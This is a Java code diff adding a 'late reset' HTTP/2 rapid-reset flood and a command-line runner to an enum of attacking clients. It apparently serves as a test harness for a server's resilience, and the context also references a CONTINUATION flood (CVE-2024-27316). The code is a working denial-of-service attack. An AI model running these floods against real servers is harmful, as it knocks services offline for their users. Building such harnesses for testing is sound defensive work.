@@ -9,6 +9,7 @@ import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.concurrent.atomic.LongAdder;
+import java.util.concurrent.locks.LockSupport;
 
 /** Clients that mean no good, each in its own way, for as long as they are let. */
 public enum Attack {
@@ -53,6 +54,21 @@ public enum Attack {
             });
         }
     },
+    /** The same, and the resets come when the requests are on their way. */
+    LATE_RESET {
+        @Override
+        void once(int port, LongAdder done) throws IOException {
+            frames(port, done, (out, stream) -> {
+                write(out, HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
+                if (stream % (2 * IN_A_ROW) == 1 && stream > 1) {
+                    LockSupport.parkNanos(1_000_000);
+                    for (var i = 1; i <= IN_A_ROW; i++) {
+                        write(out, RST_STREAM, 0, stream - 2 * i, new byte[] {0, 0, 0, 8});
+                    }
+                }
+            });
+        }
+    },
     /** CVE-2024-27316 and its like: a head that goes on and on. */
     CONTINUATION_FLOOD {
         @Override
@@ -78,6 +94,7 @@ public enum Attack {
 
     private static final int SLOW_CLIENTS = 5_000;
     private static final int TURNS = 500;
+    private static final int IN_A_ROW = 50;
     private static final int HEADERS = 1;
     private static final int RST_STREAM = 3;
     private static final int SETTINGS = 4;
@@ -88,6 +105,20 @@ public enum Attack {
     // RFC 7541, appendix A: GET, http, /, and an authority as a literal.
     private static final byte[] HEAD = head();
     private static final byte[] FIELD = field();
+
+    /** In a process of its own, until it is ended; arguments: its name and the port. */
+    public static void main(String[] arguments) throws InterruptedException {
+        var attack = valueOf(arguments[0]);
+        var done = new LongAdder();
+        Runtime.getRuntime().addShutdownHook(new Thread(() -> System.out.println(done.sum())));
+        while (!Thread.currentThread().isInterrupted()) {
+            try {
+                attack.once(Integer.parseInt(arguments[1]), done);
+            } catch (IOException _) {
+                // thrown out: again
+            }
+        }
+    }
 
     abstract void once(int port, LongAdder done) throws IOException, InterruptedException;
 
